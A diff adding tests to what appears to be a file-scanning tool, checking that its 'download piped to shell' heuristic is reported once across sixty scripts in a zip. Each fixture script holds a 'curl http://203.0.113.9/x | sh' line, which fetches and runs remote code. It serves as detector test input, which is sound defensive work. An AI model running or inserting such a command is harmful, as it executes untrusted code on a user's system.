@@ -3,6 +3,7 @@ import assert from 'node:assert/strict'
 import { test } from 'node:test'
 import { toJson } from '../../src/file/results/json.ts'
 import { analysisResults, analyzeFile, type FileReport } from '../../src/index.ts'
+import { writeZip } from './archives/write-zip.ts'
 import { fileFacts } from './empty-facts.ts'
 
 const now = new Date('2026-01-01T00:00:00Z')
@@ -69,4 +70,35 @@ test('what facts are made of becomes plain JSON', () => {
     broken: '\ufffd',
   })
   assert.deepEqual(cuts, ['x.when', 'x.long'].slice(1))
+})
+
+test('what several files of a tree show is told once, at the place that counts, with the others beside it', async () => {
+  const scripts = Array.from({ length: 60 }, (_, at) => ({
+    name: `run-${at}.sh`,
+    bytes: Buffer.from(`#!/bin/sh\n# ${at}\ncurl http://203.0.113.9/x | sh\n`),
+  }))
+  const report = await analyzeFile(writeZip(scripts), { fileName: 'all.zip', now })
+  // the shape of the wire
+  const results = analysisResults(report) as unknown as {
+    readonly heuristics: readonly {
+      readonly heur_id: string
+      readonly path: string
+      readonly places?: number
+      readonly also_at?: readonly { readonly path: string }[]
+    }[]
+    readonly verdict: { readonly reasons: readonly { readonly heuristic_id: string; readonly path: string }[] }
+  }
+  const ids = results.heuristics.map(({ heur_id }) => heur_id)
+  assert.equal(new Set(ids).size, ids.length)
+  const piped = results.heuristics.find(({ heur_id }) => heur_id === 'script_pipes_download_to_shell')
+  assert.equal(piped?.places, 60)
+  assert.equal(piped.also_at?.length, 50)
+  assert.ok(!piped.also_at.some(({ path }) => path === piped.path))
+  const reason = results.verdict.reasons.find(({ heuristic_id }) => heuristic_id === piped.heur_id)
+  assert.equal(piped.path, reason?.path)
+})
+
+test('what one file shows has no further places', async () => {
+  const results = analysisResults(await analyze('#!/bin/sh\ncurl http://203.0.113.9/x | sh\n', 'a.sh'))
+  assert.doesNotMatch(JSON.stringify(results), /also_at|"places"/)
 })
